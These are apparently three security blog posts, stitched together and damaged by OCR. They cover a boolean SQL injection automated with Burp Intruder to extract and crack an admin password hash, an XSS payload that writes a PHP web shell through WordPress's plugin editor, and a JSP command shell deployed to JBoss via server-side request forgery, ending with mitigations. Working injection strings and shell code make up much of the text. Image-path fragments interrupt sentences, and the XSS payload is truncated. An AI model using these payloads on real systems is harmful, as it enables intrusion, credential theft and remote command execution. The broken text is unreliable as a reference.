Exploiting a Boolean Based SQL Injection using Burp Suite Intruder

Origin Story

SQL Injection is one of the most prevalent vulnerabilities affecting web applications out there. From an exploitation point of view, a SQL Injection can directly be used to extract data from the backend data store and in certain configurations can be used to execute operating system commands as well.


This post is about exploiting a Boolean based SQL Injection that was discovered in the wild and provides a good use case for the usage of the powerful Intruder functionality of Burp Suite. As the attacker, data extraction is completely based on inference and can be painstaking when done manually. Tools like sqlmap can expedite the process and help getting to specific pieces of information relatively quickly, however, we wanted to try and exploit this using Burp Suite’s Intruder and see how it was done given the query we had to pass to the application.

The vulnerability

From our understanding of the bug, we surmised that the piece of code responsible for the SQL injection looked something like this:ini_set('display_errors', 0);
$con = $GLOBALS['con'];

$i = ($_POST['pollid']);

$q = "SELECT * from polls where id = ".$i;
$result = $con->query($q);
if ($result->num_rows > 0 ){
while($row = $result->fetch_assoc())
echo "<p class=''>Thank you for your response!</p>";
The ini setting ‘display_errors’ prevents the page from displaying any SQL errors that may be generated. The only thing to work with is message that is printed.

The exploitation

From our testing we knew the following:
  1. The maximum number of poll questions available are 10.
  2. When a value of ’11-1′ was passed to the pollid parameter, the message was printed. A value of ’11-0′ printed nothing.
Based on this information, we were able to craft our injection query. We knew that a conditional query would have to be created to be able to generate a 0 or a 1 and that subtracted from 11 to produce or not produce an output.For example:
  1. pollid=11-(select case when '0'='0' then 1 else 0 end) would provide a value of 11-1
  2. pollid=11-(select case when '0'='1' then 1 else 0 end) would provide a value of 11-0
These queries can be extended with additional sub queries to produce the following:
  1. pollid=11-(select case when 'a'=(substring((select 'abcd'),1,1)) then 1 else 0 end) would provide a value of 11-1, as the substring would select ‘a’ and the comparison would return true.
  2. pollid=11-(select case when 'a'=(substring((select 'abcd'),2,1)) then 1 else 0 end) would provide a value of 11-0, asthe substring would select ‘b’ and the comparison would return false.
We eventually scripted the whole attack and were able to extract arbitrary data from the database. To see how this could be done using Burp Suite, we automated the extraction using Intruder and extracted the password for the admin user.


Before we attempted this, we knew the following:
  1. The passwords were stored in a table called employees, in a column called ‘password’
  2. The password was an MD5 hash so it was stored as a hexadecimal string of length 32 characters
  3. We wanted the password of employee number 1 (admin user in this case)
The query on the server would be of the form: select password from employees where empid=1


These are the steps we took to extract the password using Burp Suite’s Intruder
1.The POST request was sent to the Intruder tab
2. As we would iterate through 2 payloads, the first for the comparison of the hexadecimal set of characters (0-9a-f) and the second for the length of the password (32 characters), we selected the ‘Cluster bomb’ attack type.
 3. The following query was crafted. This would allow iteration through 0-9a-f for each of the 32 characters, one by one.
pollid=11-(select case when '§0§' = lower(substring((select password from employees where empid=1),§1§,1)) then 1 else 0 end)
4. Underthe Payloads tab, for Payload Set 1, the Payload type was selected as ‘Simple List’ and ‘0,1,2,3,4,5,6,7,8,9,a,b,c,d,e,f’ was added as values under Payload Options (for the md5 hash hexadecimal set)
5. For Payload Set 2, the Payload type was selected as ‘Numbers’. In Payload Options, the number range was selected from 1 to 32 with 1 step. For the number format, minimum digits was set to 1, maximum to 2 and 0 fraction digits.
6. Launching the attack by clicking the ‘Start attack’ button launched a new attack window where the requests were sent to the application. We used Burp Suite Pro which allowed the 512 requests to be completed within 10 seconds.

7. Sorting by the Length column allowed the password string to become apparent in the Payload 1column.
8. Selecting and using the ‘Save > Results table’ option from the menu for the 32 requests where the Content-Length is 217, allowed for the extraction of the password value

9. The extracted value was b2f40d7ec71fd43a5adc4b65a80c55a6. A quick search on https://hashkiller.co.uk/md5-decrypter.aspx revealed the password to be yola040294

From here we were able to login into the application as the admin user (empid=1) and gain access to additional data and functionality!

Final Thoughts

Burp Suite is a powerful tool with several features and functionalities that makes automating different web application attacks and testing possible. Although a lot of folks use it primarily as an interception proxy, there are a lot of use cases it can resolve without you resorting to writing scripts or exploring additional tools.

Got your own fun case with Burp Suite? Let me know!

Till my nextpost, Happy Hacking!!

XSS to RCE – using WordPress as an example

Cross Site Scripting (XSS) is a type of client side vulnerability that arises when an application accepts user supplied input and makes it a part of the page without sanitizing it for malicious content. An attacker can supply JavaScript as input that eventually becomes a part of the page and executes in the browser of the user viewing the page. You can read more about the different types of XSS vulnerabilities at the OWASP wiki.
Most vulnerability assessments report XSS issues with the impact limited to stealing session cookies and hijacking accounts. In reality, a well executed XSS attack can cause a lot more harm than merely overtaking an account. Of course it depends on what other vulnerabilities are present in the application in the post login pages. Also, depending on the privileges of the user whose session was hijacked, added functionality may be available ready for abuse.

There have been several well documented cases of a XSS leading to larger more impactful attacks. Here are some examples:

  1. XSS worm by Samy: – https://samy.pl/popular/tech.html
  2. Apache network compromise starting with a XSS in Atlassian JIRA: – https://blogs.apache.org/infra/entry/apache_org_04_09_2010
  3. XSS to RCE in Node viaprocess.open() – https://oreoshake.github.io/xss/rce/bugbounty/2015/09/08/xss-to-rce.html
In a standard XSS attack, a penetration tester would usually take the following steps:

  1. Find a XSS vulnerability
  2. Host a collecting server to capture session cookies that will be delivered by your XSS payload
  3. Send the URL with the XSS payload to a user via email (Reflected XSS) OR
    Store the XSSpayload and wait for a user (or social engineer them to visit if you lack patience) to visit the vulnerable page.
  4. Replay the session cookies to the application and gain access to the victim’s account.
  5. Explore the application for data/other vulnerabilities.
In the event that an application has functionality that allows a user to upload executable code (php pages for example) or edit existing server side code, then you can choose to attack that functionality directly with a XSS payload. Akash Mahajan, my friend and partner at Appsecco, pointed out a tweet by @brutelogic which, in my opinion, is a fantastic JavaScript XSS payload to use the plugin-editor of WordPress to update an existing PHP page with shellcode. So I setup a local WP with a plugin that was vulnerable to XSS and used the following JS payload as mentioned in the tweet.
x=new XMLHttpRequest()
$='_wpnonce='+/ce" value="([^"]*?)"/.exec(x.responseText)[1]+'&newcontent=<?=`$_GET[brute]`;&action=update&'+f
Here’s what the payload does:

  1. Creates a new XMLHttpRequest() object x
  2. p and f hold the completeURL to load
  3. The file that will be updated is akismet/index.php
  4. x.open('GET',p+f,0) and x.send() are used to specify the type of request and to send the actual request respectively.
  5. The $ contains the POST data that will be sent.
  6. For every POST request in WordPress you need the _wpnonce token. The /ce" value="([^"]*?)"/.exec(x.responseText)[1] extracts the token from the previous response using a regular expression.
  7. The php shell code is <?=`$_GET[brute]
  8. A new POST request is created and sent to the server along with appropriate form submit headers.

If an admin navigates to /wp-admin/plugin-editor.php?file=akismet/index.php, this is what he will see:

To access the shell, navigate to /wp-content/plugins/akismet/index.php?brute=ls -a. You can now interact and execute operating system commands with the WordPress server using the brute parameter. To make the output more readable simply use the view-source option of the page.

Command execution via php shell

This attack will obviously not work if the plugin editor is disabled which can be done by placing define('DISALLOW_FILE_EDIT', true); in the wp-config.php file. You can read more WordPress hardening tips at: https://codex.wordpress.org/Hardening_WordPress (shouts to @anantshri).

Happy Hacking!

Cross Site Port Attacks – XSPA – Part 3

In the last 2 posts we saw what CrossSite Port Attacks (XSPA) are andwhat are the different attacks that are possible via XSPA. This post is in continuation with the previous posts and is the last in the series of three. In this post we will see other interesting attacks and also see how developers can prevent XSPA or limit the attack surface itself.

Read Cross Site Port Attacks – XSPA – Part 1
Read Cross Site Port Attacks – XSPA – Part 2

Attacks – Attacking Internal Vulnerable Web Applications

Most often than not, intranet applications lack even the most basic security allowing an attacker on the internal network to attack and access server resources including data and code. Being an intranet application, reaching it from the Internet requires VPN access to the internal network or specialized connectivity on the same lines. Using XSPA, however, an attacker can target vulnerable internal web applications via the Internet exposed web application.

A very common example I can think of and which I have seenduring numerous pentests is the presence of a JBoss Server vulnerable to a bunch of issues. My most favorite of them being the absence of authentication, by default, on the JMX console which runs on port 8080 by default.

A well documented hack using the JMX console, allows an attacker to deploy a war file containing JSP code that would allow command execution on the server. If an attacker has direct access to the JMX console, then deploying the war file containing the following JSP code is relatively straightforward:

<% Process p = Runtime.getRuntime().exec("cmd /c " + request.getParameter("x"));
DataInputStream dis = new DataInputStream(p.getInputStream());
String disr = dis.readLine();
while ( disr != null ) {
disr = dis.readLine();
} %>

Usingthe MainDeployer under jboss.system:service in the JMX Bean View wecan deploy a war file containing a JSP shell. The MainDeployer can be found at the following address:


Using the MainDeployer, for example, a war file named cmd.war containing a shell named shell.jsp can be deployed to the server and accessed via http://example_server:8080/cmd/shell.jsp. Commands can then be executed via shell.jsp?x=[command]. To perform this via XSPA we need to obviously replace the example_server with the IP/hostname of the server running JBoss on the internal network.

A small problem here that becomes a roadblock in performing this attack via XSPA is that the file deploy works via a POST request and hence we cannot craft a URL (atleast we think so) that would deploy the war file to the server. This can easily be solved by converting the POST to a GET request for the JMX console. On a test installation, we can identify the variables that are being sent to the JBoss server when the Main Deployer’s deploy() function is called. Using your favorite proxy, or simply using the Firefox addon – Web Developer’s “Convert POST to GET” functionality, we can construct a URL that would allow deploying of the cmd.war file to the server. We then only need to host the cmd.war file on anInternet facing server so that we can specify the cmd.war file URL as arg0. The final URL would look something like (assuming JBoss server is running on the same web server):

Use this URL as input to the XSPA vulnerable web application and if the application displays received responses from the backend, you should see something on the lines of the following:

Then its a matter of requesting shell.jsp via the XSPA vulnerable web application. For example, the following input would return the directory listing on the JBoss server (assuming its Windows, for Linux, x=ls%20-al can be used)

We have successfully attacked an internal vulnerable web application from the Internet using XSPA. We can then use the shell to download a reverse connect program that would give higher flexibility over issuing commands. Similarily other internal applications vulnerable to threats like SQL Injection, parameter manipulation and other URL based attacks can be targeted from the Internet.

Attacks – Reading local files using file:/// protocolAll the attacks that we saw till now make use of the fact that the XSPA vulnerable web application creates an HTTP request to the requested resource. The protocol in all cases was specified by the attacker. On the other hand, if we specify the file protocol handler, we maybe able to read local files on the server. An input of the following form would cause the application to read files on disk:

Request: file:///C:/Windows/win.ini

The followingscreengrab shows the reading of the /etc/passwd file on an Adobe owned server via Adobe’s Omniture web application. The request was file:///etc/passwd. Adobe has now fixed this issue and credited me on the Adobe Hall of Fame for the same:

How do you fix this?

There are multiple ways of mitigating this vulnerability, the most ideal and common techniques of thwarting XSPA, however, are listed below:
1. Response Handling – Validating responses received from remote resources on the server side is the most basic mitigation that can be readily implemented. If a web application expects specific content type on the server, programmatically ensure that the data received satisfies checks imposed on theserver before displaying or processing the data for the client.

2. Error handling and messages – Display generic error messages to the client in case something goes wrong. If content type validation fails, display generic errors to the client like “Invalid Data retrieved”. Also ensure that the message is the same when the request fails on the backend and if invalid data is received. This will prevent the application from being abused as distinct error messages will be absent for closed and open ports. Under no circumstance should the raw response received from the remote server be displayed to the client.

3. Restrict connectivity to HTTP based ports – This may not always be the brightest thing to do, but restricting the ports to which the web application can connect to only HTTP ports like 80, 443, 8080, 8090 etc. can lower the attack surface. Several popular web applications on the Internet just strip any port specifications in the input URL and connect to the port that is determined by the protocol handler (http – 80, https – 443).

